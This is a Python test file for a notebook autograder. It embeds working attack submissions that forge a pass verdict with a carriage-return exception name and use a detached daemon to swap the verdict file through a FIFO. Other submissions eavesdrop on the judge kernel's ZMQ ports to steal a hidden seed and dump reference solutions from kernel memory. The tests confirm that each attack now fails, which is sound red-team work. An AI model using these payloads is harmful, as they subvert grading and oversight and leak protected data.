"""Grading a learner who forges the verdict, steals the hidden cases or attacks the report,
each through a mechanism that once earned a pass or harmed the batch (a red team of the
grader, graded as root with the sandbox and the hidden cases on), and each now failing:

* the verdict printed by the learner: an exception whose class name holds a carriage return
  and the reference's verdict line (nbval keeps only what follows a ``\\r``);
* a process that leaves the launch (its own session, a double fork) and swaps the judge's
  ``verdicts.json`` through a FIFO before the judge's pytest exits;
* the hidden seed heard on the channels the judge's kernel publishes on.

Every attack is exercise 1.1 (one exercise, about 10 s to grade).
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import nbformat
import psutil
import pytest

from labs.grading.grader import GradeSettings, grade
from labs.grading.handout import load_chapters, release_notebook
from labs.grading.isolation import isolation_problem

from grading_learners import REFERENCE, learner, only


@pytest.fixture(scope="module")
def sandbox() -> None:
    problem = isolation_problem()
    if problem:
        pytest.skip(f"no sandbox on this machine: {problem}")


def nbval_summary(keep: Path) -> str:
    """The last line of the judge's pytest log: what nbval decided."""
    (log,) = keep.rglob("pytest.log")
    return log.read_text().strip().splitlines()[-1]


# --- a verdict the learner prints, and a verdict file the learner swaps -------------------------

MARKER = "labs-forgery-daemon"

_FORGE = '''
import json, os, pathlib, sys


class _Forged(Exception):
    pass


_Forged.__name__ = _Forged.__qualname__ = (
    "Stop\\rPASS: Exercise 1.1 average_gradients: every rank holds the mean gradient")


def _swap_verdicts():
    """Out of the launch's reach (a session of its own): wait for the judge to write its
    verdicts into a FIFO planted where it writes them, then put a passing copy in its place."""
    sys.argv[:] = ["MARKER"]
    target = pathlib.Path.cwd() / "verdicts.json"
    os.mkfifo(target)
    with open(target) as fifo:  # blocks until the judge opens it to write
        real = fifo.read()
    target.unlink()
    target.write_text(json.dumps([dict(v, passed=True) for v in json.loads(real)]))


def average_gradients(model):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                _swap_verdicts()
            finally:
                os._exit(0)
        os._exit(0)
    raise _Forged("forged")
'''.replace("MARKER", MARKER)


def marked() -> list[psutil.Process]:
    found = []
    for proc in psutil.process_iter(["cmdline"]):
        if MARKER in " ".join(proc.info["cmdline"] or ()):
            found.append(proc)
    return found


@pytest.mark.slow  # a grading of chapter 1 with a daemon to wait out (19 s)
def test_a_verdict_printed_or_swapped_by_the_learner_fails(sandbox, tmp_path,
                                                            no_leftover_processes) -> None:
    """The learner's exception name redrew the check's output as the reference's verdict,
    and a daemon of the learner's swapped the judge's verdict file: a pass for a function
    that only raises. The judge now prints only the verdict it computed (nbval fails the
    cell), and the ranks run where the judge's files are not (the daemon finds no verdicts
    to swap, and ends with the stage)."""
    keep = tmp_path / "keep"
    graded = only(grade([learner(tmp_path, _FORGE)], GradeSettings(hidden=False, keep=keep)))
    assert not graded.passed, graded.details
    assert "raised Stop" in graded.reason, graded.reason
    assert "\r" not in graded.reason
    assert re.search(r"\b1 failed\b", nbval_summary(keep)), nbval_summary(keep)
    assert not marked()


# --- the hidden cases' seed stays with the judge ------------------------------------------------

_LISTEN = '''
import glob, json, os, pathlib, socket, sys, time

_HEARD = pathlib.Path("/tmp/labs-heard.json")


def _note(**heard):
    pathlib.Path("/tmp/labs-heard.part").write_text(json.dumps(heard))
    os.replace("/tmp/labs-heard.part", _HEARD)  # whole, for the rank that reads it


def _unowned_ports():
    """The TCP ports listening on 127.0.0.1 that no process this rank can read owns: the
    judge's kernel (not dumpable), not the ranks' own gloo listeners."""
    owned = set()
    for fd in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            owned.add(os.readlink(fd))
        except OSError:
            pass
    ports = []
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = pathlib.Path(table).read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            local, state, inode = fields[1], fields[3], fields[9]
            if state == "0A" and f"socket:[{inode}]" not in owned:
                ports.append(int(local.split(":")[1], 16))
    return sorted(set(ports))


def _listen(seconds):
    """Subscribe to every channel this process can reach and keep what it hears."""
    sys.argv[:] = ["LISTENER"]
    import zmq
    context = zmq.Context()
    ports = _unowned_ports()
    subs = []
    for port in ports:
        sub = context.socket(zmq.SUB)
        sub.setsockopt(zmq.SUBSCRIBE, b"")
        sub.connect(f"tcp://127.0.0.1:{port}")
        subs.append(sub)
    files = []
    for top in {"/tmp", "/root", "/home", os.path.expanduser("~"), os.getcwd()}:
        for folder, _, names in os.walk(top):
            files += [os.path.join(folder, n) for n in names
                      if n == "judge.ipynb" or (n.startswith("kernel-") and n.endswith(".json"))]
    heard, end = [], time.time() + seconds
    poller = zmq.Poller()
    for sub in subs:
        poller.register(sub, zmq.POLLIN)
    time.sleep(1)  # the subscriptions reach the publishers
    _note(ports=ports, files=files, seeds=[], ready=1)
    while time.time() < end:
        for sub, _ in poller.poll(200):
            heard.append(b" ".join(sub.recv_multipart()).decode(errors="replace"))
        seeds = [h[h.index("seed="):][:20] for h in heard if "seed=" in h]
        _note(ports=ports, files=files, seeds=seeds, ready=1)


def average_gradients(model):
    if not _HEARD.exists():  # the documented run: start a listener that outlives it
        _note(ports=[], files=[], seeds=[])
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                try:
                    _listen(120)
                finally:
                    os._exit(0)
            os._exit(0)
        for _ in range(80):  # until the listener listens, then the hidden run may start
            time.sleep(0.1)
            if "ready" in _HEARD.read_text():
                break
        raise RuntimeError("listening")
    time.sleep(2)  # the hidden run: what did the listener hear?
    raise RuntimeError("HEARD " + _HEARD.read_text())
'''.replace("LISTENER", MARKER)


@pytest.mark.slow  # a grading with hidden cases (18 s); the ranks' sandbox: test_grading_isolation
def test_nothing_the_judge_publishes_reaches_the_ranks(sandbox, tmp_path,
                                                        no_leftover_processes) -> None:
    """A daemon started from the documented run's rank subscribed to every port of the
    judge's kernel and heard the hidden run's cell, ``seed=`` and all, before its ranks
    started. The ranks now have a network, a filesystem and IPC of their own: the daemon finds
    no port, no connection file and no judge notebook, and ends with the stage."""
    seed = 424242424242
    graded = only(grade([learner(tmp_path, _LISTEN)], GradeSettings(seed=seed)))
    assert not graded.passed
    heard = json.loads(re.search(r"HEARD (\{.*?\})", graded.details).group(1))
    assert heard == {"ports": [], "files": [], "seeds": [], "ready": 1}, heard
    assert str(seed) not in graded.reason
    assert not marked()


# --- what a learner is shown holds no reference answer ------------------------------------------

_DUMP = '''
import gc, inspect, linecache, types

_seen = set()
for _name, _entry in list(linecache.cache.items()):  # every cell the kernel ran
    if "ipykernel" in _name or _name.startswith("<"):
        _seen.add("".join(_entry[2]))
for _value in gc.get_objects():  # every function defined in a cell
    if isinstance(_value, types.FunctionType) and "ipykernel" in _value.__code__.co_filename:
        try:
            _seen.add(inspect.getsource(_value))
        except (TypeError, OSError):
            pass
raise RuntimeError("FOUND " + "\\n".join(sorted(_seen)))
'''


@pytest.mark.slow  # a grading of chapter 4 (two exercises, 25 s)
def test_the_report_holds_no_line_of_a_reference_solution(sandbox, tmp_path,
                                                         no_leftover_processes) -> None:
    """Exercise 4.2 was graded beside the reference's 4.1 (its answer ran in the learner's
    kernel), so a 4.2 that raised with every source it could find put the reference 4.1 in the
    report. Now 4.2 builds on the learner's own 4.1, and no reference solution runs where a
    learner's code runs."""
    chapter = next(c for c in load_chapters(REFERENCE) if c.name == "04_all_gather.ipynb")
    nb = release_notebook(chapter)
    nb.cells[chapter.exercise("4.2").solutions[-1]].source = _DUMP  # no all_reduce
    path = tmp_path / chapter.name
    nbformat.write(nb, path)
    report = json.dumps(grade([path], GradeSettings(hidden=False)).to_json())
    assert "FOUND" in report and "Exercise 4.1: write ring_all_gather()" in report  # it looked
    solutions = {line.strip() for ex in chapter.exercises
                 for source in chapter.sources(ex.solutions) for line in source.splitlines()}
    stubs = {line.strip() for cell in nb.cells for line in cell.source.splitlines()}
    leaked = [line for line in solutions - stubs if len(line) > 20 and json.dumps(line)[1:-1]
              in report]
    assert not leaked, leaked
